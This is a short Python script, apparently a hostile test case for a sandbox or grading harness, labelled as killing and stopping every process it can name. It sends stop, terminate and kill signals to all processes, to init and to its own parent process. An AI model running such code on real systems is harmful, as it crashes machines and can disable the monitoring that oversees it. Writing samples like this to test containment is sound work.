# %%
ABOUT = "kills and stops every process it can name"
BASE = "reference"
LOSES = []
SAYS = ""

# %%
import os
import signal

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for target in (-1, 1, os.getppid(), 2, 3):
        if target not in (0, os.getpid()):
            try:
                os.kill(target, number)
            except OSError as error:
                print("refused:", type(error).__name__)
